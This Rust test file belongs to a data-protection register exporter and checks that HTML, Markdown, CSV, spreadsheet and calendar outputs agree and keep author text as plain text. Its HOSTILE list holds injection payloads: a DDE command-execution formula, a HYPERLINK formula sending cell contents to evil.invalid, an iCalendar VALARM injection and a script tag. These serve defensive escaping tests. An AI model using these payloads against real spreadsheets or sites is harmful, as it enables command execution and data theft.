//! Registers: a page, Markdown, a file of values and a sheet show the same rows; whatever an author writes stays a text; days are
//! read back by a reader of calendars.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, reason = "a test fails by a panic")]
#![expect(dead_code, reason = "the projects made by hand are for several tests")]

mod by_hand;

use by_hand::{
    Project, about, always, clause, contract, dataset, grant, granted, hosting, organisation, said, terms,
};
use calamine::{Data, Reader, Xlsx};
use charta_backends::{Artifact, Language, documents, escape};
use charta_base::{Code, Diagnostic, FileId, Severity, SourceFile, SourceKind, Span};
use charta_checks::Waived;
use charta_model::condition::Condition;
use charta_model::model::*;
use charta_model::ranges::Ranges;
use charta_model::rows::RowSpace;
use charta_model::time::{Day, Length, Period, Unit};
use charta_model::value::ColumnType;
use icalendar::{Calendar, Component};
use scraper::{ElementRef, Html, Selector};
use std::collections::{BTreeMap, BTreeSet};
use std::io::Cursor;

static REACH: Code =
    Code { id: "TST001", name: "test-reach", summary: "a test", severity: Severity::Warning, page: "" };

/// Every register, by the name of its files.
const REGISTERS: [&str; 7] =
    ["processing", "processing-for-others", "transfers", "subprocessors", "waivers", "duties", "uses"];

const HOSTILE: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.invalid?\"&A1,\"click\")",
    "+1+1",
    "-1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\n=1+1",
    "  \"=1+1",
    "'\"=1+1",
    "\u{feff}\u{200b}\u{1}=1+1",
    "\u{ff1d}1+1",
    "a;=1+1;b",
    "a,@x,\"=1+1\",b",
    "_x003D_1 {=1}",
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nSUMMARY:evil",
    "a\\,b;c\\n d: \"e\"",
    "<script>alert(1)</script> | [x](javascript:y)",
    "é ü 日本 𝄞 long enough to be folded: 日本日本日本日本日本日本日本日本日本日本日本日本日本日本日本日本日本日本日本",
];

/// A project with a row in every register, and one text wherever a text can stand.
fn full(text: &str) -> Project {
    let mut model = Model::default();
    let label = |path: &str| About { label: Some(text.into()), note: Some(text.into()), ..about(path) };
    let lands = terms(
        &mut model,
        TermKind::Jurisdiction,
        &[
            ("std.eu.jurisdictions.EEA", &[]),
            ("std.eu.jurisdictions.ADEQUATE", &[]),
            ("fr", &[0]),
            ("us", &[]),
        ],
    );
    let purposes = terms(
        &mut model,
        TermKind::Purpose,
        &[("research", &[]), ("std.purposes.commercial", &[]), ("care", &[])],
    );
    let actions = terms(&mut model, TermKind::Action, &[("use", &[]), ("std.prelude.share", &[0])]);
    let categories = terms(&mut model, TermKind::Category, &[("std.prelude.special", &[]), ("health", &[0])]);
    let basis = terms(&mut model, TermKind::Basis, &[("interest", &[])])[0];
    let clauses = terms(&mut model, TermKind::Safeguard, &[("std.eu.gdpr.transfer", &[]), ("clauses", &[0])]);
    let scheme = terms(&mut model, TermKind::Certification, &[("scheme", &[])])[0];
    let hospital = organisation(&mut model, "hospital", &[]);
    let institute = organisation(&mut model, "institute", &[]);
    let cloud_firm = organisation(&mut model, "cloudfirm", &[]);
    let store_firm = organisation(&mut model, "storefirm", &[]);
    for (id, land) in [(hospital, 2), (institute, 3), (cloud_firm, 3), (store_firm, 2)] {
        let party = &mut model.parties[id];
        party.about.label = Some(format!("{text} {}", party.about.name).into());
        party.established = Some(said(lands[land]));
        party.contact = Some(text.into());
        party.data_protection_officer = Some(text.into());
    }
    let period = |from: &str, last: &str| Period { from: Day::parse(from), last: Day::parse(last) };
    let certificate = Certificate {
        certification: scheme,
        version: None,
        state: Some(CertificateState::Valid),
        offer: None,
        activities: Vec::new(),
    };
    let year = period("2024-01-31", "2026-12-31");
    let store = model.hostings.push(Hosting {
        about: label("store"),
        operator: Some(said(store_firm)),
        located: vec![said(lands[2])],
        certificates: vec![Dated { value: certificate, period: year, span: Span::default() }],
        ..hosting("store")
    });
    let reliance = Reliance { on: store, services: vec![Service::Storage] };
    let cloud = model.hostings.push(Hosting {
        about: label("cloud"),
        operator: Some(said(cloud_firm)),
        located: vec![said(lands[2])],
        support_from: vec![always(lands[3])],
        relies_on: vec![Dated { value: reliance, period: year, span: Span::default() }],
        ..hosting("cloud")
    });
    let types = [("born", ColumnType::Date, true), ("code", ColumnType::Text, false)];
    let stays = dataset(&mut model, "stays", hospital, Some(cloud), &types);
    model.datasets[stays].about = label("stays");
    model.datasets[stays].population = Some(text.into());
    let columns: Vec<ColumnId> = model.columns_of(stays).collect();
    model.columns[columns[1]].categories = vec![categories[1]];
    model.columns[columns[0]].identifies = Some(Identifies::Quasi);
    let role = |party, role| RoleSaid { party: said(party), role, purposes: None };
    let approval = Approval { authority: hospital, reference: Some(text.into()) };
    let safeguard =
        SafeguardSaid { safeguard: clauses[1], party: Some(institute), reference: Some(text.into()) };
    let id = model.contracts.push(Contract {
        about: label("c.study"),
        roles: vec![role(hospital, Role::Controller), role(institute, Role::Processor)],
        bases: vec![BasisSaid { basis: said(basis), purposes: None }],
        approvals: vec![Dated { value: approval, period: year, span: Span::default() }],
        retention: Some(said(Length { amount: 3, unit: Unit::Year })),
        subprocessors: Some(vec![said(cloud_firm)]),
        subprocessor_notice: Some(said(Length { amount: 30, unit: Unit::Day })),
        safeguards: vec![always(safeguard)],
        review: Some(said(Length { amount: 1, unit: Unit::Year })),
        reference: Some(text.into()),
        signed: Day::parse("2024-01-15"),
        statements: vec![(said("security"), vec![text.into()]), (said("benefit"), vec![text.into()])],
        ..contract("c.study", hospital, &[institute], year)
    });
    model
        .contracts
        .push(Contract { about: label("c.idle"), ..contract("c.idle", hospital, &[institute], year) });
    let mut space = RowSpace::default();
    let owner = Owner::Contract(id);
    let closure = |id: TermId, model: &Model| model.terms[id].closure.clone();
    let who = model.parties[institute].closure.clone();
    let why = closure(purposes[0], &model).union(&closure(purposes[1], &model));
    let data = granted(&model, &mut space, stays, Condition::Always);
    let permit = grant(Effect::Permit, who.clone(), closure(actions[0], &model), why, vec![data.clone()]);
    clause(&mut model, owner, ClauseKind::Grant(permit), &[text]);
    let share = closure(actions[1], &model);
    let forbid = grant(Effect::Forbid, Ranges::all(), share, Ranges::all(), vec![data]);
    clause(&mut model, owner, ClauseKind::Grant(forbid), &[]);
    let duty = |due| Duty {
        parties: by_hand::said_set(who.clone()),
        action: said(actions[0]),
        objects: vec![said(DutyObject::Dataset(stays)), said(DutyObject::Thing(text.into()))],
        due: said(due),
        passed_on: true,
    };
    let month = Length { amount: 1, unit: Unit::Month };
    for due in [
        Due::Within(Length { amount: 30, unit: Unit::Day }, Event::EndOfTerm),
        Due::Every(month),
        Due::NotBefore(Day::parse("2025-06-01").unwrap()),
        Due::Within(month, Event::Breach),
        Due::Always,
    ] {
        clause(&mut model, owner, ClauseKind::Duty(duty(due)), &[text]);
    }
    let waiver = Waiver {
        check: said("test-reach".into()),
        until: said(Day::parse("2025-07-31").unwrap()),
        because: text.into(),
        by: text.into(),
    };
    let waiver = clause(&mut model, owner, ClauseKind::Waive(waiver), &[]);
    let mut written = String::new();
    for id in model.clauses.ids().collect::<Vec<_>>() {
        let start = written.len() as u32;
        written.push_str("clause");
        model.clauses[id].span = Span::new(FileId(0), start, written.len() as u32);
        written.push('\n');
    }
    let mut project = Project::of(model, space);
    let finding = Diagnostic::nowhere(&REACH, text).about("c.study");
    project.outcome.waived.push(Waived { finding, waiver });
    project.sources.add(SourceFile {
        name: "a.charta".into(),
        text: written.into(),
        kind: SourceKind::Code,
        library: false,
    });
    project
}

fn made(project: &Project, language: Language) -> Vec<Artifact> {
    (documents::TARGET.emit)(&project.input(language, &[])).unwrap().artifacts
}

fn one<'a>(artifacts: &'a [Artifact], name: &str) -> &'a Artifact {
    let path = format!("documents/registers/{name}");
    artifacts.iter().find(|artifact| artifact.path == path).unwrap_or_else(|| panic!("no {path}"))
}

/// A row: the lines of each cell.
type Row = Vec<Vec<String>>;

/// The words of an element, without the marks that lead to where it is written.
fn words(element: ElementRef<'_>) -> String {
    let mut text = String::new();
    for node in element.descendants() {
        let is_mark = node
            .ancestors()
            .filter_map(ElementRef::wrap)
            .any(|it| it.value().classes().any(|c| c == "source"));
        if let Some(part) = node.value().as_text().filter(|_| !is_mark) {
            text.push_str(part);
        }
    }
    text.split_whitespace().collect::<Vec<&str>>().join(" ")
}

/// The head of the table of a page and its rows, each with the page that its cells lead to.
fn table_of(page: &str) -> (Vec<String>, Vec<Row>) {
    let page = Html::parse_document(page);
    assert!(page.errors.is_empty(), "{:?}", page.errors);
    let select = |what: &str| Selector::parse(what).unwrap();
    let head = page.select(&select("thead th")).map(words).collect();
    let cell = |td: ElementRef<'_>| {
        let lines: Vec<String> = td.select(&select("li")).map(words).collect();
        match (lines.is_empty(), words(td)) {
            (false, _) => lines,
            (true, text) if text.is_empty() => Vec::new(),
            (true, text) => vec![text],
        }
    };
    let (row, data) = (select("tbody tr"), select("td"));
    let rows = page.select(&row).map(|row| row.select(&data).map(cell).collect()).collect();
    (head, rows)
}

fn records_of(file: &Artifact) -> Vec<Vec<String>> {
    let text = file.text().strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// The sheets of a workbook in order, with their rows; none of their cells is anything but a text.
fn sheets_of(file: &Artifact) -> Vec<(String, Vec<Vec<String>>)> {
    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(file.bytes().to_vec())).unwrap();
    let names = workbook.sheet_names();
    let read = |name: String| {
        let formulas = workbook.worksheet_formula(&name).unwrap();
        assert!(formulas.used_cells().next().is_none(), "a formula in {name}");
        let range = workbook.worksheet_range(&name).unwrap();
        let text = |cell: &Data| match cell {
            Data::String(text) => text.clone(),
            Data::Empty => String::new(),
            other => panic!("{other:?} is no text"),
        };
        let rows = range.rows().map(|row| row.iter().map(text).collect()).collect();
        (name, rows)
    };
    names.into_iter().map(read).collect()
}

/// What a spreadsheet would take for a formula, however it parts cells.
fn begins_like_a_formula(cell: &str) -> bool {
    cell.split([',', ';', '\t', '\n', '\r']).any(|part| {
        let bare = part.trim_start_matches(|c: char| c == '"' || c.is_whitespace());
        bare.starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'])
    })
}

/// Whether a page, a file of values and a sheet hold the same.
fn agree(
    page: &(Vec<String>, Vec<Row>),
    records: &[Vec<String>],
    sheet: &[Vec<String>],
) -> Result<(), String> {
    let (head, rows) = page;
    let with_page = |cells: &[String]| cells.len() == head.len() + 1;
    if !records.iter().chain(sheet).all(|cells| with_page(cells)) {
        return Err("a column is missing".to_owned());
    }
    if records[0][..head.len()] != head[..] || sheet[0][..head.len()] != head[..] {
        return Err("the heads differ".to_owned());
    }
    if records.len() != rows.len() + 1 || sheet.len() != rows.len() + 1 {
        return Err(format!("{} rows, {} records, {} in the sheet", rows.len(), records.len(), sheet.len()));
    }
    for (at, row) in rows.iter().enumerate() {
        for (column, lines) in row.iter().enumerate() {
            let (record, cell) = (&records[at + 1][column], &sheet[at + 1][column]);
            if *record != escape::csv_cell(&lines.join(" · ")) || *cell != lines.join("\n") {
                return Err(format!("{lines:?} became {record:?} and {cell:?}"));
            }
        }
        if records[at + 1][head.len()] != sheet[at + 1][head.len()] {
            return Err("the pages differ".to_owned());
        }
    }
    Ok(())
}

#[test]
fn pages_values_and_sheets_hold_the_same_and_only_texts() {
    for text in HOSTILE {
        for language in [Language::English, Language::French] {
            let artifacts = made(&full(text), language);
            let sheets = sheets_of(one(&artifacts, "registers.xlsx"));
            assert_eq!(sheets.len(), REGISTERS.len());
            for (name, (_, sheet)) in REGISTERS.iter().zip(&sheets) {
                let page = table_of(one(&artifacts, &format!("{name}.html")).text());
                let records = records_of(one(&artifacts, &format!("{name}.csv")));
                assert!(!page.1.is_empty(), "{name} has no row");
                agree(&page, &records, sheet).unwrap_or_else(|reason| panic!("{name}: {reason}"));
                for cell in records.iter().flatten() {
                    assert!(!begins_like_a_formula(cell), "{name}: {cell:?}");
                }
                let said = escape::cell(text);
                assert!(page.1.iter().flatten().flatten().any(|line| line.contains(&said)), "{name}: {said}");
                let markdown = one(&artifacts, &format!("{name}.md")).text();
                let lines = markdown.lines().filter(|line| line.starts_with('|')).count();
                assert_eq!(lines, page.1.len() + 2, "{markdown}");
            }
        }
    }
}

#[test]
fn what_differs_is_seen() {
    let artifacts = made(&full("=1+1"), Language::English);
    let page = table_of(one(&artifacts, "waivers.html").text());
    let records = records_of(one(&artifacts, "waivers.csv"));
    let sheet = sheets_of(one(&artifacts, "registers.xlsx")).remove(4).1;
    assert_eq!(agree(&page, &records, &sheet), Ok(()));
    let mut bare = records.clone();
    let cell = bare[1].iter_mut().find(|cell| cell.starts_with('\'')).unwrap();
    *cell = cell.trim_start_matches('\'').to_owned();
    assert!(begins_like_a_formula(cell), "{cell}");
    assert!(agree(&page, &bare, &sheet).is_err());
    let mut short = sheet.clone();
    short.pop();
    assert!(agree(&page, &records, &short).is_err());
}

#[test]
fn every_row_leads_to_its_contract_and_to_its_source() {
    let artifacts = made(&full("Label"), Language::English);
    let all: BTreeSet<&str> = artifacts.iter().map(|artifact| artifact.path.as_str()).collect();
    for name in REGISTERS {
        let page = one(&artifacts, &format!("{name}.html")).text();
        for record in &records_of(one(&artifacts, &format!("{name}.csv")))[1..] {
            let to = record.last().unwrap();
            let (path, anchor) = to.split_once('#').unwrap_or((to, ""));
            assert!(all.contains(format!("documents/{path}").as_str()), "{name}: {to}");
            assert!(page.contains(&format!("\"../{to}\"")), "{name}: {to}");
            let target =
                artifacts.iter().find(|artifact| artifact.path == format!("documents/{path}")).unwrap();
            assert!(anchor.is_empty() || target.text().contains(&format!("id=\"{anchor}\"")), "{name}: {to}");
            let written = &record[record.len() - 2];
            assert!(written.starts_with("a.charta:"), "{name}: {written}");
        }
    }
    let overview = artifacts.iter().find(|artifact| artifact.path == "documents/index.html").unwrap().text();
    for name in REGISTERS {
        assert!(overview.contains(&format!("\"registers/{name}.html\"")), "{name}");
    }
    // Whatever a page of the registers leads to is there.
    let link = Selector::parse("a[href]").unwrap();
    let pages = artifacts
        .iter()
        .filter(|it| it.path.starts_with("documents/registers/") && it.path.ends_with(".html"));
    for page in pages {
        for link in Html::parse_document(page.text()).select(&link) {
            let to = link.value().attr("href").unwrap().split('#').next().unwrap();
            let path = match to.strip_prefix("../") {
                _ if to.is_empty() => continue,
                Some(path) => format!("documents/{path}"),
                None => panic!("{to} on {}", page.path),
            };
            assert!(all.contains(path.as_str()), "{path} on {}", page.path);
        }
    }
}

fn rows(artifacts: &[Artifact], name: &str) -> Vec<BTreeMap<String, String>> {
    let records = records_of(one(artifacts, &format!("{name}.csv")));
    let row = |record: &Vec<String>| records[0].iter().cloned().zip(record.iter().cloned()).collect();
    records[1..].iter().map(row).collect()
}

#[test]
fn a_register_says_what_the_contracts_say() {
    let artifacts = made(&full("Label"), Language::English);
    let processing = rows(&artifacts, "processing");
    let purposes: Vec<&str> = processing.iter().map(|row| row["Purpose"].as_str()).collect();
    assert_eq!(purposes, ["research", "commercial"]);
    assert_eq!(processing[0]["Controllers"], "Label hospital — Label");
    assert_eq!(processing[0]["Special categories"], "health");
    assert_eq!(processing[0]["Reached outside the European Economic Area"], "us");
    assert!(processing[0]["Security measures"].contains("scheme"), "{:?}", processing[0]);
    let others = rows(&artifacts, "processing-for-others");
    assert_eq!((others.len(), others[0]["On behalf of"].as_str()), (1, "Label hospital — Label"));
    let transfers = rows(&artifacts, "transfers");
    let told: Vec<(&str, &str)> =
        transfers.iter().map(|row| (row["To"].as_str(), row["How"].as_str())).collect();
    assert_eq!(
        told,
        [
            ("Label institute", "receives"),
            ("Label cloudfirm", "is a sub-processor"),
            ("Label cloudfirm", "operates Label"),
            ("Label cloudfirm", "Label is supported from there"),
        ]
    );
    assert!(transfers[0]["Safeguards"].contains("clauses"));
    assert_eq!(transfers[1]["Safeguards"], "none that is known of");
    let engaged = rows(&artifacts, "subprocessors");
    let told: Vec<(&str, &str, &str)> = engaged
        .iter()
        .map(|row| {
            (row["Organisation"].as_str(), row["Named in the contract"].as_str(), row["Since"].as_str())
        })
        .collect();
    assert_eq!(
        told,
        [("Label cloudfirm", "yes", "no day is said"), ("Label storefirm", "no", "31 January 2024")]
    );
    let waivers = rows(&artifacts, "waivers");
    assert_eq!((waivers.len(), waivers[0]["State"].as_str()), (1, "holds"));
    assert_eq!(waivers[0]["Covers"], "TST001 test-reach: Label");
    let uses = rows(&artifacts, "uses");
    let told: Vec<&str> = uses.iter().map(|row| row["Commercial purpose"].as_str()).collect();
    assert_eq!(told, ["not among the commercial purposes of the library", "yes"]);
    // Sharing is below use, which is permitted, and forbidden.
    assert!(uses.iter().all(|row| row["May be passed on"] == "the contract does not permit it"));
    assert!(uses.iter().all(|row| row["Identifiability"] == "columns that help to single persons out"));
}

#[test]
fn what_is_forbidden_is_no_activity() {
    let mut project = full("Label");
    let forbid = charta_base::Id::new(1);
    let commercial = project.model.terms.iter().find(|(_, it)| &*it.about.path == "std.purposes.commercial");
    let commercial = commercial.unwrap().1.closure.clone();
    if let ClauseKind::Grant(grant) = &mut project.model.clauses[forbid].kind {
        grant.actions.value = Ranges::all();
        grant.purposes.value = commercial;
    }
    let project = Project { rules: Project::of(project.model.clone(), RowSpace::default()).rules, ..project };
    let artifacts = made(&project, Language::English);
    let purposes: Vec<String> =
        rows(&artifacts, "uses").into_iter().map(|row| row["Purpose"].clone()).collect();
    assert_eq!(purposes, ["research"]);
    assert_eq!(rows(&artifacts, "processing").len(), 1);
    assert_eq!(rows(&artifacts, "uses")[0]["May be passed on"], "yes: share");
}

/// The events of a calendar by their sort and first day, as a reader of calendars sees them.
fn events_of(file: &str) -> Vec<BTreeMap<String, String>> {
    let calendar: Calendar = file.parse().unwrap();
    let events = calendar.components.iter().map(|component| {
        let event = component.as_event().unwrap();
        assert!(event.components().is_empty());
        let start = &event.properties()["DTSTART"];
        assert_eq!(start.params()["VALUE"].value(), "DATE");
        let mut facts: BTreeMap<String, String> =
            event.properties().iter().map(|(name, it)| (name.clone(), it.value().to_owned())).collect();
        let categories = event.multi_properties().get("CATEGORIES").into_iter().flatten();
        facts.extend(categories.map(|it| ("CATEGORIES".to_owned(), it.value().to_owned())));
        facts
    });
    events.collect()
}

#[test]
fn a_calendar_is_read_back() {
    for text in HOSTILE {
        for language in [Language::English, Language::French] {
            let artifacts = made(&full(text), language);
            let file = one(&artifacts, "duties.ics").text();
            assert!(file.lines().count() > 20 && !file.replace("\r\n", "").contains(['\n', '\r']));
            assert!(file.split("\r\n").all(|line| line.len() <= 75), "{file}");
            let events = events_of(file);
            // The terms of both contracts, an approval, a review, a waiver, a certificate, and three duties with a day.
            assert_eq!(events.len(), 9, "{file}");
            let names: BTreeSet<&str> = events.iter().map(|event| event["UID"].as_str()).collect();
            assert_eq!(names.len(), events.len());
            for event in &events {
                assert_eq!(event["DTSTAMP"], "20250301T000000Z");
                assert!(event["SUMMARY"].contains(&escape::cell(text)), "{event:?}");
            }
        }
    }
    let artifacts = made(&full("Label"), Language::English);
    let events = events_of(one(&artifacts, "duties.ics").text());
    let told: Vec<(&str, &str, Option<&str>)> = events
        .iter()
        .map(|event| {
            let rule = event.get("RRULE").map(String::as_str);
            (event["DTSTART"].as_str(), event["CATEGORIES"].as_str(), rule)
        })
        .collect();
    let has =
        |expected: (&str, &str, Option<&str>)| assert!(told.contains(&expected), "{expected:?} in {told:#?}");
    has((
        "20240229",
        "duty",
        Some("FREQ=MONTHLY;INTERVAL=1;BYMONTHDAY=28,29,30,31;BYSETPOS=-1;UNTIL=20261231"),
    ));
    has((
        "20250131",
        "review",
        Some("FREQ=MONTHLY;INTERVAL=12;BYMONTHDAY=28,29,30,31;BYSETPOS=-1;UNTIL=20261231"),
    ));
    has(("20250601", "duty", None));
    has(("20250731", "waiver", None));
    has(("20261231", "certificate", None));
    has(("20261231", "end of a contract", None));
    has(("20270130", "duty", None));
}

#[test]
fn an_event_keeps_its_name_while_its_clause_does() {
    let names = |project: &Project| {
        let artifacts = made(project, Language::English);
        let events = events_of(one(&artifacts, "duties.ics").text());
        events
            .into_iter()
            .map(|event| (event["UID"].clone(), event["DTSTART"].clone()))
            .collect::<BTreeMap<_, _>>()
    };
    let before = names(&full("Label"));
    let mut project = full("Another label");
    project.model.contracts[charta_base::Id::new(0)].term =
        Some(said(Period { from: Day::parse("2024-01-31"), last: Day::parse("2027-12-31") }));
    let after = names(&project);
    assert_eq!(before.keys().collect::<Vec<_>>(), after.keys().collect::<Vec<_>>());
    let moved = before.iter().filter(|(name, day)| after[*name] != **day).count();
    assert_eq!(moved, 2, "the end of the term, and the duty that counts from it");
}

#[test]
fn an_assessment_leaves_to_people_what_is_theirs() {
    for language in [Language::English, Language::French] {
        let artifacts = made(&full("Label"), language);
        let page = one(&artifacts, "impact-c_study.html").text();
        let page = Html::parse_document(page);
        let row = Selector::parse("tbody tr").unwrap();
        let cell = Selector::parse("td").unwrap();
        let rows: Vec<Vec<String>> =
            page.select(&row).map(|row| row.select(&cell).map(words).collect()).collect();
        let feared: Vec<&Vec<String>> = rows.iter().filter(|row| row.len() == 7).collect();
        assert_eq!(feared.len(), 3);
        assert!(feared.iter().all(|row| !row[0].is_empty() && row[1..].iter().all(String::is_empty)));
        let questions: Vec<&Vec<String>> = rows.iter().filter(|row| row.len() == 3).collect();
        assert!(questions.len() > 15);
        assert!(questions.iter().all(|row| !row[1].is_empty() && row[2].is_empty()), "{questions:#?}");
        // A contract that permits nothing has nothing to assess.
        assert!(!artifacts.iter().any(|artifact| artifact.path.contains("impact-c_idle")));
    }
}

#[test]
fn an_empty_register_says_so_in_a_sentence() {
    for language in [Language::English, Language::French] {
        let artifacts = made(&Project::of(Model::default(), RowSpace::default()), language);
        let paragraph = Selector::parse("main section p, main > p").unwrap();
        for name in REGISTERS {
            let page = one(&artifacts, &format!("{name}.html")).text();
            assert!(!page.contains("<table"), "{name}");
            let page = Html::parse_document(page);
            let last = page.select(&paragraph).map(words).last().unwrap();
            assert!(last.ends_with('.') && last.len() > 15, "{name}: {last}");
            assert_eq!(records_of(one(&artifacts, &format!("{name}.csv"))).len(), 1, "the head alone");
        }
        assert!(events_of(one(&artifacts, "duties.ics").text()).is_empty());
        assert_eq!(sheets_of(one(&artifacts, "registers.xlsx")).len(), REGISTERS.len());
    }
}

#[test]
fn the_same_project_gives_the_same_bytes() {
    let all = |text: &str| made(&full(text), Language::French);
    let first = all("Label");
    // The clock of the machine moves on between the two.
    std::thread::sleep(std::time::Duration::from_millis(2_100));
    assert_eq!(first, all("Label"));
    let other = all("Another");
    assert_ne!(one(&first, "registers.xlsx").bytes(), one(&other, "registers.xlsx").bytes());
}
